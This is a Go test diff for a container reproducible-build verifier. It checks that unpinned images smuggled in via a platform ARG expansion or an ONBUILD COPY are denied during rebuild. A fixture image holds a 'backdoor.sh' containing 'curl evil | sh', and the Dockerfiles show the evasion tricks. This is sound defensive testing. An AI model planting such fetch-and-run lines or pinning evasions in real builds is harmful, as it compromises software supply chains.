@@ -247,3 +247,36 @@ func TestProvenanceSecrets(t *testing.T) {
 		t.Errorf("the secret the rebuild did without is not named: %q; hints %q", rep.Build.Ignored, rep.Hints)
 	}
 }
+
+// TestUnseenSourcesDenied: a Dockerfile that BuildKit reads otherwise than
+// the pinning rules once did — an automatic platform ARG choosing an
+// unpinned image, an ONBUILD trigger copying from one — was rebuilt with
+// the unpinned image and verified as reproducible. Every rebuild now gets
+// a source policy that allows only the inputs the rules found pinned:
+// whatever else the build asks for fails it, naming the source.
+func TestUnseenSourcesDenied(t *testing.T) {
+	w := newWorld(t)
+	evil := w.reg.MustPush(t, "evil", "latestlinux", fixtures.Image(fixtures.Spec{Steps: []fixtures.Step{{Instruction: "COPY backdoor /", Entries: []fixtures.Entry{fixtures.File("backdoor.sh", "curl evil | sh\n")}}}}))
+	evilTag := evil[:strings.LastIndex(evil, "@")] // HOST/evil
+	w.reg.MustPush(t, "evil", "latest", fixtures.Image(fixtures.Spec{Steps: []fixtures.Step{{Instruction: "COPY backdoor /", Entries: []fixtures.Entry{fixtures.File("backdoor.sh", "curl evil | sh\n")}}}}))
+	for _, c := range []struct{ name, dockerfile string }{
+		{"automatic platform ARG", "FROM ${TARGETOS:+" + evilTag + ":latest}${TARGETOS:-BASE}\nCOPY app/ /app/\n"},
+		{"ONBUILD trigger", "FROM BASE AS a\nONBUILD COPY --from=" + evilTag + ":latest /backdoor.sh /\nFROM a\nCOPY app/ /app/\n"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			files := w.files(c.dockerfile, nil)
+			dir, commit := fixtures.GitRepo(t, files, commitTime)
+			// The published image: what BuildKit builds from this source
+			// with no restriction (a publisher's build).
+			x, _ := w.publish(dir, "", builder.Spec{})
+			ref := w.push("release/unseen-"+strings.ToLower(strings.ReplaceAll(c.name, " ", "-")), x)
+			rep, err := verify.Run(t.Context(), verify.Request{Source: dir, Commit: commit, Image: ref}, w.bk, verify.Options{ProgressMode: "quiet"})
+			if err == nil || rep.Verdict != verify.Error {
+				t.Fatalf("verdict %s (%v): the unpinned image entered the rebuild", rep.Verdict, err)
+			}
+			if !strings.Contains(err.Error(), evilTag) {
+				t.Errorf("error %q does not name the image", err)
+			}
+		})
+	}
+}
